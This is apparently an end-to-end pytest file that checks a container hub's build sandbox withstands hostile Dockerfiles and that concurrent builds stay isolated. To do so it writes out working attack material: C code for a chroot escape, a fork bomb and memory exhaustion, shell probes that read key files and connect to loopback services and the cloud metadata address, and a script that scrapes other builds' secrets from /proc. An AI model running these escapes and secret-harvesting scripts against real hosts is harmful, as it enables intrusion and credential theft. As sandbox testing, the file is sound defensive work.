"""Hostile builds against the real sandbox (real buildah, bubblewrap, a live hub and its build worker).

One source tries everything a stranger's Dockerfile would: a static chroot-escape program (compiled
here with `gcc -static`) that then reads the data dir's keys and database, writes into the data dir,
lists /proc for the hub's processes, makes and reads a block device, connects to the hub, PostgreSQL
and Redis on loopback, opens a user namespace; then (only once a harmless canary has shown the pids
limit) a fork bomb, an allocation past the memory limit and a write past the disk limit. Every attempt
fails, the build ends within its limits, nothing of the hub reaches the log or the data dir, and the
hub keeps working. A symlink to the data dir used as a `--mount` and a COPY source is refused. Two
builds by different users at once cannot read each other's workspace, token or secrets.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import tarfile
import time
import uuid
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import requests
from django.conf import settings

pytest.register_assert_rewrite("tests.e2e.clients", "tests.e2e.images")

from builds.sandbox import sandbox_problem  # noqa: E402
from tests.conftest import PASSWORD  # noqa: E402
from tests.e2e.clients import ContainerClients  # noqa: E402
from tests.e2e.test_builds import Hub, git, link_with_hook, user_with_repository  # noqa: E402
from tests.live import start_hub  # noqa: E402

pytest_plugins = ["tests.e2e.clients", "tests.e2e.images"]
pytestmark = [pytest.mark.e2e,
              pytest.mark.skipif(shutil.which("buildah") is None or shutil.which("gcc") is None,
                                 reason="buildah and gcc are needed")]

MEMORY_MB, PIDS, DISK_MB, TIMEOUT = 512, 128, 200, 240  # the disk below the memory: its dirty pages count too

ESCAPE_C = r"""
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
extern char **environ;

static int escape_and_run(const char *script_path) {  /* chroot twice, then run the script from outside */
    static char script[65536];
    int in = open(script_path, O_RDONLY);
    ssize_t size = in < 0 ? -1 : read(in, script, sizeof script - 1);
    if (size < 0) { perror("script"); return 1; }
    script[size] = 0;
    int shell = open("/bin/busybox", O_RDONLY);
    mkdir("/.escape", 0700);
    if (chroot("/.escape") != 0) perror("chroot");
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) perror("chroot .");
    printf("after the chroot escape, / holds:");
    DIR *root = opendir("/");
    struct dirent *entry;
    while (root && (entry = readdir(root))) printf(" %s", entry->d_name);
    printf("\n");
    fflush(stdout);
    char *args[] = {"sh", "-c", script, NULL};
    fexecve(shell, args, environ);
    perror("fexecve");
    return 1;
}

static int allocate(long mib) {
    for (long i = 0; i < mib; i++) {
        char *block = malloc(1 << 20);
        if (!block) { printf("allocation refused at %ld MiB\n", i); return 0; }
        memset(block, 1, 1 << 20);
    }
    printf("PWNED-memory: %ld MiB allocated\n", mib);
    return 0;
}

static int canary(int wanted) {  /* harmless: `wanted` children that sleep 3 s */
    int started = 0;
    for (int i = 0; i < wanted; i++) {
        pid_t pid = fork();
        if (pid == 0) { sleep(3); _exit(0); }
        if (pid < 0) break;
        started++;
    }
    while (wait(NULL) > 0) {}
    if (started < wanted) printf("pids limit held: %d of %d processes started\n", started, wanted);
    else printf("PWNED-no-pids-limit: %d processes started\n", started);
    return started < wanted ? 0 : 3;
}

static int bomb(int seconds) {  /* every process forks until the deadline, then exits */
    time_t end = time(NULL) + seconds;
    setvbuf(stdout, NULL, _IONBF, 0);
    pid_t top = getpid();
    while (time(NULL) < end) {
        if (fork() < 0) usleep(10000);
    }
    if (getpid() != top) _exit(0);
    sleep(3);
    while (waitpid(-1, NULL, WNOHANG) > 0) {}
    printf("fork bomb over\n");
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 3 && strcmp(argv[1], "run") == 0) return escape_and_run(argv[2]);
    if (argc == 3 && strcmp(argv[1], "mem") == 0) return allocate(atol(argv[2]));
    if (argc == 3 && strcmp(argv[1], "pids") == 0) return canary(atoi(argv[2]));
    if (argc == 3 && strcmp(argv[1], "bomb") == 0) return bomb(atoi(argv[2]));
    return 2;
}
"""

# Each probe prints a line with the marker (spelt so that the echoed Dockerfile never holds it) only
# when the attack worked.
PROBES = """
M=PW; M="${{M}}NED"
for f in {keys}/* {data}/hub.sqlite3; do busybox head -c 64 "$f" 2>/dev/null && echo "$M-read $f"; done
busybox ls {data} >/dev/null 2>&1 && echo "$M-list-data"
[ "$(busybox ls {work} 2>/dev/null | busybox grep -c wharf-build)" -gt 1 ] && echo "$M-other-workspaces"
busybox touch {data}/{canary} {data}/keys/{canary} /tmp/{canary} /run/{canary} {work}/{canary} 2>/dev/null
for p in /proc/[0-9]*; do busybox cat $p/cmdline 2>/dev/null; echo; done \
  | busybox grep -E "[g]unicorn|[c]elery|[p]ostgres|[r]edis-server" && echo "$M-proc"
busybox kill -0 {hub_pid} 2>/dev/null && [ "{hub_pid}" -gt 200 ] && echo "$M-signal"
for dev in "7 0" "8 0" "253 0" "259 0" "1 1"; do busybox mknod /tmp/blk-$$ b $dev 2>/dev/null \
  && busybox head -c 512 /tmp/blk-$$ >/dev/null 2>&1 && echo "$M-mknod $dev"; busybox rm -f /tmp/blk-$$; done
for port in {ports}; do busybox nc -w 2 127.0.0.1 $port </dev/null >/dev/null 2>&1 && echo "$M-connect $port"; done
busybox nc -w 2 169.254.169.254 80 </dev/null >/dev/null 2>&1 && echo "$M-connect metadata"
busybox unshare -U -r busybox true 2>/dev/null && echo "$M-userns"
echo probes-done
"""

@pytest.fixture(scope="module")
def local_root(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("hostile-sources").resolve()


@pytest.fixture(scope="module")
def sandbox_hub(local_root, artifacts_dir, django_db_setup, tmp_path_factory):
    problem = sandbox_problem()
    if problem:
        pytest.fail(f"the build sandbox is not available: {problem}")
    work_dir = tmp_path_factory.mktemp("hostile-work")
    hub = start_hub(artifacts_dir, HUB_BUILDS_ENABLED="1", HUB_BUILD_LOCAL_ROOTS=str(local_root),
                    HUB_BUILD_TIMEOUT_SECONDS=str(TIMEOUT), HUB_BUILD_DISPATCH_SECONDS="2",
                    HUB_BUILD_WORK_DIR=str(work_dir), HUB_BUILD_MEMORY_MB=str(MEMORY_MB),
                    HUB_BUILD_PIDS=str(PIDS), HUB_BUILD_DISK_MB=str(DISK_MB))
    hub.work_dir = work_dir
    hub.data_dir = Path(hub.extra.get("HUB_DATA_DIR") or settings.DATA_DIR)
    yield hub
    hub.stop()


def project(hub_process, live_user, committed, local_root, test_images, tmp_path, name: str):
    clients = ContainerClients(tmp_path / f"clients-{name}", [hub_process.host])
    user = user_with_repository(live_user, committed, clients, test_images.small, hub_process.host, name)
    hub = Hub(hub_process, user.username)
    source = local_root / f"{name}-{uuid.uuid4().hex[:8]}"
    subprocess.run(["git", "init", "-q", "-b", "main", str(source)], check=True)
    repo = f"{user.username}/{name}"
    link_with_hook(hub, repo, str(source), source, source / ".git" / "hooks", "post-commit")
    return hub, user, source, repo


def service_ports(hub_process) -> list[int]:
    ports = [hub_process.port]
    database = settings.DATABASES["default"]
    if database.get("PORT"):
        ports.append(int(database["PORT"]))
    for url in (hub_process.extra.get("REDIS_URL"), settings.REDIS_URL if hasattr(settings, "REDIS_URL") else ""):
        if url and urlsplit(url).port:
            ports.append(urlsplit(url).port)
    return sorted(set(ports))


def hub_secrets(data_dir: Path) -> list[str]:
    """What must never reach a build's log: every key file's content."""
    found = []
    for path in (data_dir / "keys").glob("*"):
        text = path.read_text(errors="replace")
        found += [line.strip() for line in text.splitlines() if len(line.strip()) >= 16 and "-----" not in line]
    return found


def image_files(hub_process, repo: str, into: Path, names: tuple[str, ...]) -> dict[str, tuple[tuple[int, int], bytes]]:
    """Pull `repo:latest` and return, for each of `names` (files at the image's root), its owner (uid, gid)
    and content, as the last layer that has it holds them."""
    clients = ContainerClients(into.parent / f"{into.name}-clients", [hub_process.host])
    clients.skopeo_pull_dir(f"{hub_process.host}/{repo}:latest", into, creds=(repo.split("/")[0], PASSWORD))
    manifest = json.loads((into / "manifest.json").read_text())
    found: dict[str, tuple[tuple[int, int], bytes]] = {}
    for layer in manifest["layers"]:
        with tarfile.open(into / layer["digest"].split(":", 1)[1], mode="r:*") as archive:
            for member in archive.getmembers():
                name = member.name.removeprefix("./")
                if name in names and member.isfile():
                    found[name] = ((member.uid, member.gid), archive.extractfile(member).read())
    assert set(found) == set(names), f"{repo}:latest lacks {set(names) - set(found)}"
    return found


def wait_final(hub: Hub, repo: str) -> dict:
    [build] = hub.wait_for_build(repo)
    return hub.api("GET", f"{repo}/builds/{build['id']}/").json()


def test_a_hostile_build_reaches_nothing_of_the_hub(sandbox_hub, live_user, committed, local_root, test_images,
                                                     tmp_path):
    hub, user, source, repo = project(sandbox_hub, live_user, committed, local_root, test_images, tmp_path,
                                      "hostile")
    (tmp_path / "escape.c").write_text(ESCAPE_C)
    subprocess.run(["gcc", "-static", "-O1", "-o", str(source / "escape"), str(tmp_path / "escape.c")], check=True)
    canary = f"wharf-canary-{uuid.uuid4().hex}"
    probes = PROBES.format(keys=sandbox_hub.data_dir / "keys", data=sandbox_hub.data_dir, work=sandbox_hub.work_dir,
                           canary=canary, hub_pid=sandbox_hub.process.pid,
                           ports=" ".join(map(str, service_ports(sandbox_hub))))
    (source / "probes.sh").write_text(probes)
    (source / "Dockerfile").write_text(
        f"FROM {sandbox_hub.host}/{user.username}/base:v1\n"
        "COPY escape probes.sh /\n"
        'RUN ["/escape", "run", "/probes.sh"]\n'
        "RUN busybox sh /probes.sh\n"
        # The fork bomb only once the canary has shown the pids limit (CI runs as root).
        f"RUN /escape pids {PIDS * 3} && /escape bomb 8; echo bomb-step-exit=$?\n"
        f"RUN /escape mem {MEMORY_MB * 3}; echo memory-step-exit=$?\n"
        f"RUN busybox dd if=/dev/zero of=/fill bs=1M count={DISK_MB * 3} 2>&1 | busybox tail -3; "
        "echo disk-step-exit=$?; busybox rm -f /fill\n"
        "RUN echo hostile-build-over\n")
    git(source, "add", ".")
    # A stranger's ordinary build, at the same time (the worker runs two): it must not notice the attack.
    neighbour, neighbour_user, neighbour_source, neighbour_repo = project(
        sandbox_hub, live_user, committed, local_root, test_images, tmp_path, "neighbour")
    (neighbour_source / "Dockerfile").write_text(f"FROM {sandbox_hub.host}/{neighbour_user.username}/base:v1\n"
                                                 "RUN busybox sleep 20 && echo neighbour-built > /n.txt\n")
    git(neighbour_source, "add", ".")
    started = time.monotonic()
    git(source, "commit", "-q", "-m", "hostile")
    git(neighbour_source, "commit", "-q", "-m", "ordinary")
    final = wait_final(hub, repo)
    log = final["log"]
    neighbour_final = wait_final(neighbour, neighbour_repo)
    assert neighbour_final["state"] == "success", neighbour_final["log"]
    assert neighbour_final["started"] < final["finished"] and final["started"] < neighbour_final["finished"]
    assert time.monotonic() - started < TIMEOUT + 60
    assert final["state"] in ("success", "failed"), log
    assert "PWNED" not in log, log
    assert "after the chroot escape, / holds:" in log and "probes-done" in log, log  # the attempts did run
    assert "pids limit held" in log and "fork bomb over" in log, log
    assert "memory-step-exit=137" in log or "allocation refused" in log, log
    assert "No space left on device" in log, log
    assert final["state"] == "success", log  # and, the attacks over, the build went on and was pushed and signed
    for secret in hub_secrets(sandbox_hub.data_dir):
        assert secret not in log
    # Writes land in the sandbox's own /tmp (a tmpfs that dies with it) or fail: never on the host.
    for place in (sandbox_hub.data_dir, sandbox_hub.data_dir / "keys", Path("/tmp"), Path("/run"),
                  sandbox_hub.work_dir):
        assert not (place / canary).exists(), f"the build wrote into {place}"
    assert list(sandbox_hub.work_dir.glob("wharf-build-*")) == []
    assert requests.get(f"{sandbox_hub.url}/v2/", timeout=10).status_code == 401  # the hub still answers
    assert hub.api("GET", f"{repo}/").status_code == 200


def test_symlinks_out_of_the_context_are_refused(sandbox_hub, live_user, committed, local_root, test_images, tmp_path):
    hub, user, source, repo = project(sandbox_hub, live_user, committed, local_root, test_images, tmp_path, "links")
    (source / "keys").symlink_to(sandbox_hub.data_dir / "keys")
    (source / "Dockerfile").write_text(
        f"FROM {sandbox_hub.host}/{user.username}/base:v1\n"
        "RUN --mount=type=bind,source=keys,target=/k busybox cat /k/secret_key /k/*\n"
        "COPY keys /copied\n")
    git(source, "add", ".")
    git(source, "commit", "-q", "-m", "links")
    final = wait_final(hub, repo)
    assert final["state"] == "failed", final["log"]
    assert "symlinks that point outside" in final["log"] and "keys ->" in final["log"]
    assert "STEP 1/" not in final["log"]  # refused before buildah ran
    for secret in hub_secrets(sandbox_hub.data_dir):
        assert secret not in final["log"]


SNOOP = """
echo "mine: $(busybox cat /run/secrets/mine)"
end=$(( $(busybox date +%s) + 20 ))
while [ $(busybox date +%s) -lt $end ]; do
  for f in {work}/*/secrets/* {work}/*/cred/* /run/wharf-builds/mnt/*/secrets/* /run/wharf-builds/mnt/*/cred/* \
           /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
    busybox cat "$f" 2>/dev/null; echo
  done | busybox grep -o -E "other-secret-[0-9a-f]+|whf_[A-Za-z0-9_]+" | busybox sort -u | busybox tee -a /snooped
  busybox sleep 1
done
echo snooping-over | busybox tee -a /snooped
"""


def test_two_builds_at_once_cannot_read_each_other(sandbox_hub, live_user, committed, local_root, test_images,
                                                   tmp_path):
    builds = []
    for name in ("first", "second"):
        hub, user, source, repo = project(sandbox_hub, live_user, committed, local_root, test_images, tmp_path, name)
        secret = f"other-secret-{uuid.uuid4().hex}"
        rules = hub.api("GET", f"{repo}/build-rules/").json()
        hub.api("PATCH", f"{repo}/build-rules/{rules[0]['id']}/", json={"secrets": {"mine": secret}})
        (source / "snoop.sh").write_text(SNOOP.format(work=sandbox_hub.work_dir))
        (source / "Dockerfile").write_text(
            f"FROM {sandbox_hub.host}/{user.username}/base:v1\nCOPY snoop.sh /\n"
            "RUN --mount=type=secret,id=mine busybox sh /snoop.sh\n"
            # A full id range: files can belong to any user (apt drops to _apt, uid 42 or 100).
            'RUN busybox touch /owned && busybox chown 100:65534 /owned && busybox stat -c "owner %u:%g" /owned\n')
        git(source, "add", ".")
        builds.append((hub, repo, source, secret))
    for _hub, _repo, source, _secret in builds:
        git(source, "commit", "-q", "-m", "snoop")
    finals = [wait_final(hub, repo) for hub, repo, _source, _secret in builds]
    for final in finals:
        assert final["state"] == "success", final["log"]
        assert "mine: ***" in final["log"], final["log"]  # its own secret, masked
    first, second = finals
    assert builds[1][3] not in first["log"] and builds[0][3] not in second["log"]
    # What the steps left in their images, checked there rather than in the log: the last RUN's only
    # output line once went missing from a CI build's log (both builds succeeded), and a lost line must
    # not hide a secret the snoop found.
    files = [image_files(sandbox_hub, repo, tmp_path / f"pulled-{index}", ("snooped", "owned"))
             for index, (_hub, repo, _source, _secret) in enumerate(builds)]
    for own, (_hub, _repo, _source, other_secret) in zip(files, reversed(builds), strict=True):
        snooped = own["snooped"][1].decode()
        assert "snooping-over" in snooped and other_secret not in snooped and "whf_" not in snooped, snooped
        assert own["owned"][0] == (100, 65534)  # a full id range: files can belong to any user
    assert "whf_" not in first["log"] and "whf_" not in second["log"]  # no registry token, not even its own
    # They did run at the same time.
    assert first["started"] < second["finished"] and second["started"] < first["finished"]
    assert PASSWORD not in first["log"]
